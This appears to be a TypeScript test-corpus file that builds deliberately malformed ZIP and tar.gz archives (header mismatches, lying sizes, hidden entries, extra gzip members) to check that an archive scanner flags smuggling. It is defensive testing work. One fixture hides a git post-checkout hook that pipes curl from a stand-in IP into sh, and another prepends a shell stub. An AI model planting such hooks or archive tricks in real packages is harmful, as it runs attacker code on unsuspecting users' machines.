import { crc32, gzipSync } from 'node:zlib';
import { buildZip, type ZipEntrySpec } from '../../helpers/archives.js';
import type { CorpusCase } from '../types.js';
import {
  baseProject,
  hostileCase,
  nest,
  rawTarGz,
  tarBlock,
  tarBlocksOf,
  TAR_END,
  tarGzWith,
} from '../build.js';

/**
 * Archives that read differently depending on the tool: the local header and the central record
 * disagree (method, name, sizes, CRC, flags), stored data whose sizes lie, bytes before, between or
 * after the entries, two gzip members, a data descriptor that contradicts the central record.
 */
const F = 'smuggling';
const payload = 'module.exports = function run() { return require("child_process"); };\n'.repeat(
  20,
);
const entries = (name: string): ZipEntrySpec[] =>
  Object.entries(baseProject(name)).map(([n, data]) => ({ name: n, data }));
const zipCase = (variant: string, check: string, extra: ZipEntrySpec, opts = {}) =>
  hostileCase(F, variant, 'zip', check, (n) => buildZip([...entries(n), extra], opts));

/** A stored local file, to hide inside another entry's stored bytes. */
function localFile(name: string, data: Buffer): Buffer {
  const n = Buffer.from(name);
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(0x800, 6);
  h.writeUInt32LE(crc32(data), 14);
  h.writeUInt32LE(data.length, 18);
  h.writeUInt32LE(data.length, 22);
  h.writeUInt16LE(n.length, 26);
  return Buffer.concat([h, n, data]);
}

/**
 * A central record after the end record's count, inside its directory size, for a local file
 * hidden in a stored blob: Python's zipfile reads the directory by size and extracts it.
 */
function hiddenCentral(name: string): Buffer {
  const hook = Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.77:8080/h | sh\n');
  const hidden = localFile('.git/hooks/post-checkout', hook);
  const all = [
    ...entries(name),
    {
      name: 'assets/blob.bin',
      data: Buffer.concat([Buffer.from([0, 1, 2, 3, 0, 0]), hidden]),
      method: 0,
    },
  ];
  const offset = buildZip(all).indexOf(hidden);
  const zip = buildZip(all, {
    extraCentral: [
      {
        name: '.git/hooks/post-checkout',
        method: 0,
        flags: 0x800,
        crc: crc32(hook),
        csize: hook.length,
        usize: hook.length,
        offset,
      },
    ],
  });
  zip.writeUInt16LE(all.length, zip.length - 22 + 8);
  zip.writeUInt16LE(all.length, zip.length - 22 + 10);
  return zip;
}

/** A local zip64 extra field (0x0001): uncompressed then compressed size. */
function zip64Extra(usize: number, csize: number): Buffer {
  const b = Buffer.alloc(20);
  b.writeUInt16LE(1, 0);
  b.writeUInt16LE(16, 2);
  b.writeBigUInt64LE(BigInt(usize), 4);
  b.writeBigUInt64LE(BigInt(csize), 12);
  return b;
}

export const cases: CorpusCase[] = [
  // found by the s48 scan sweep: the local header's sizes were compared only when not 0xFFFFFFFF,
  // and then the zip64 extra field's were never read, so a stored entry could tell a streaming
  // extractor another length than the central record (python's zipfile writes this layout with
  // force_zip64)
  zipCase('local-zip64-extra-size-lies', 'local_header_mismatch', {
    name: 'payload.js',
    data: payload,
    method: 0,
    local: { csize: 0xffffffff, usize: 0xffffffff },
    localExtra: zip64Extra(payload.length + 512, payload.length + 512),
  }),
  zipCase('local-zip64-extra-missing', 'local_header_mismatch', {
    name: 'payload.js',
    data: payload,
    method: 0,
    local: { csize: 0xffffffff, usize: 0xffffffff },
  }),
  hostileCase(F, 'central-record-past-count', 'zip', 'unaccounted_bytes', hiddenCentral),
  zipCase('local-stored-central-deflate', 'local_header_mismatch', {
    name: 'payload.js',
    data: payload,
    local: { method: 0 },
  }),
  zipCase('local-deflate-central-stored', 'local_header_mismatch', {
    name: 'payload.js',
    data: payload,
    method: 0,
    local: { method: 8 },
  }),
  zipCase('stored-size-lie', 'stored_size_mismatch', {
    name: 'payload.js',
    data: payload,
    method: 0,
    central: { usize: 10 },
    local: { usize: 10 },
  }),
  zipCase('local-name-differs', 'local_header_mismatch', {
    name: 'src/safe.js',
    data: payload,
    local: { name: 'src/evil.js' },
  }),
  zipCase('local-crc-differs', 'local_header_mismatch', {
    name: 'payload.js',
    data: payload,
    local: { crc: 0x12345678 },
  }),
  zipCase('both-crc-wrong', 'crc_mismatch', {
    name: 'payload.js',
    data: payload,
    local: { crc: 0x1234 },
    central: { crc: 0x1234 },
  }),
  zipCase('local-size-differs', 'local_header_mismatch', {
    name: 'payload.js',
    data: payload,
    local: { usize: 99 },
  }),
  zipCase('encryption-flag-local-only', 'local_header_mismatch', {
    name: 'payload.js',
    data: payload,
    local: { flags: 0x801 },
  }),
  zipCase('encrypted-entry', 'encrypted_entry', { name: 'payload.js', data: payload, flags: 0x1 }),
  zipCase('strong-encryption-flag', 'malformed_zip', {
    name: 'payload.js',
    data: payload,
    flags: 0x40,
  }),
  zipCase('unsupported-method', 'unsupported_compression', {
    name: 'payload.js',
    data: payload,
    method: 0,
    local: { method: 12 },
    central: { method: 12 },
  }),
  zipCase('descriptor-lies', 'local_header_mismatch', {
    name: 'payload.js',
    data: payload,
    descriptor: true,
    central: { usize: 7 },
  }),
  zipCase('duplicate-entry-name', 'duplicate_name', { name: 'src/index.ts', data: payload }),
  zipCase(
    'prepended-bytes',
    'prepended_data',
    { name: 'payload.js', data: payload },
    { prepend: Buffer.from('#!/bin/sh\nexec python3 -c "$0"\n') },
  ),
  zipCase(
    'trailing-bytes',
    'trailing_data',
    { name: 'payload.js', data: payload },
    { trailing: Buffer.from('PK hidden after the end record') },
  ),
  hostileCase(F, 'gap-between-entries', 'zip', 'unaccounted_bytes', (n) => {
    const zip = buildZip(entries(n));
    // Shift the central directory 16 bytes on, leaving a gap nobody accounts for.
    const cdOffset = zip.readUInt32LE(zip.length - 6);
    const end = Buffer.from(zip.subarray(zip.length - 22));
    end.writeUInt32LE(cdOffset + 16, 16);
    return Buffer.concat([
      zip.subarray(0, cdOffset),
      Buffer.alloc(16, 0x41),
      zip.subarray(cdOffset, zip.length - 22),
      end,
    ]);
  }),
  hostileCase(F, 'trailing-bytes', 'tar.gz', 'malformed_gzip', async (n) =>
    Buffer.concat([await tarGzWith(baseProject(n)), Buffer.from('hidden tail')]),
  ),
  hostileCase(F, 'second-gzip-member', 'tar.gz', 'trailing_data', async (n) =>
    Buffer.concat([
      await tarGzWith(baseProject(n)),
      gzipSync(Buffer.concat([tarBlock({ name: 'x.js' }, payload), TAR_END])),
    ]),
  ),
  hostileCase(F, 'tar-size-beyond-data', 'tar.gz', 'malformed_tar', (n) => {
    const head = tarBlocksOf(baseProject(n));
    const lying = tarBlock({ name: 'payload.js' }, payload).subarray(0, 512);
    // The header claims 1 MiB that the stream never delivers.
    const h = Buffer.from(lying);
    h.write('00004000000\0', 124, 'latin1');
    h.write('        ', 148, 'latin1');
    let sum = 0;
    for (const x of h) sum += x;
    h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
    return gzipSync(Buffer.concat([head, h, Buffer.from(payload)]));
  }),
  hostileCase(F, 'tar-bad-checksum', 'tar.gz', 'malformed_tar', (n) => {
    const block = Buffer.from(tarBlock({ name: 'payload.js' }, payload));
    block[0] = 0x78; // renamed after the checksum was computed
    return gzipSync(Buffer.concat([tarBlocksOf(baseProject(n)), block, TAR_END]));
  }),
  hostileCase(F, 'tar-directory-with-content', 'tar.gz', 'directory_with_content', (n) =>
    rawTarGz(baseProject(n), [tarBlock({ name: 'cache/', type: '5' }, payload)]),
  ),
  hostileCase(F, 'nested-local-mismatch', 'tar.gz', 'local_header_mismatch', (n) =>
    nest(
      'tar.gz',
      n,
      'vendor/plugin.zip',
      buildZip([...entries(`${n}/i`), { name: 'p.js', data: payload, local: { method: 0 } }]),
    ),
  ),
];
